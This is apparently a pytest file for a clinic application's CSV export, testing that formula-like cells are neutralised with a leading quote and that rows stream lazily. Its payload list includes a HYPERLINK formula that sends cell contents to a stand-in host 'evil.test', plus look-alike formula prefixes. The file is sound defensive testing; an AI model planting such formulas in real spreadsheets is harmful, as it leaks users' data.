"""Tables as CSV: whole for whoever reads RFC 4180, and nothing in them is calculated."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from clinic.core.csv_rows import BOM, ROWS_AT_ONCE, csv_pieces, safe_cell

#: RFC 4180, with every field quoted: what stands between quotes is text, doubled quotes are one.
RECORD = re.compile(r'((?:"(?:[^"]|"")*")(?:,"(?:[^"]|"")*")*)\r\n')
FIELD = re.compile(r'"((?:[^"]|"")*)"')

FORMULAS = [
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "⁺1",
]


def read(text: str) -> list[list[str]]:
    """The table as the RFC has it."""
    assert text.startswith(BOM)
    rest = text.removeprefix(BOM)
    records = list(RECORD.finditer(rest))
    assert "".join(one[0] for one in records) == rest
    return [[cell.replace('""', '"') for cell in FIELD.findall(one[1])] for one in records]


@pytest.mark.parametrize("payload", FORMULAS)
def test_T15_no_cell_begins_like_a_formula(payload: str) -> None:
    assert safe_cell(payload) == f"'{payload}"
    [_head, [first, second]] = read("".join(csv_pieces(["a", "b"], [[payload, "5"]])))
    assert (first, second) == (f"'{payload}", "5")


def test_T15_no_head_begins_like_a_formula() -> None:
    [[head]] = read("".join(csv_pieces(["=1+1"], [])))
    assert head == "'=1+1"


def test_what_is_no_formula_stays_as_it_is() -> None:
    cells = ["Dr Tomasz Zieliński", 'a "b", c', "two\r\nlines", "a=b", "", None, 0, 0.5, "’s"]
    [_head, row] = read("".join(csv_pieces(["a"], [cells])))
    assert row == [
        "Dr Tomasz Zieliński",
        'a "b", c',
        "two\r\nlines",
        "a=b",
        "",
        "",
        "0",
        "0.5",
        "’s",
    ]


def test_no_more_rows_are_read_than_are_sent() -> None:
    taken = []

    def rows() -> Iterator[list[int]]:
        for number in range(10 * ROWS_AT_ONCE):
            taken.append(number)
            yield [number]

    pieces = csv_pieces(["n"], rows())
    next(pieces)
    assert len(taken) < ROWS_AT_ONCE
    assert read(BOM + "".join(pieces))[-1] == [str(10 * ROWS_AT_ONCE - 1)]
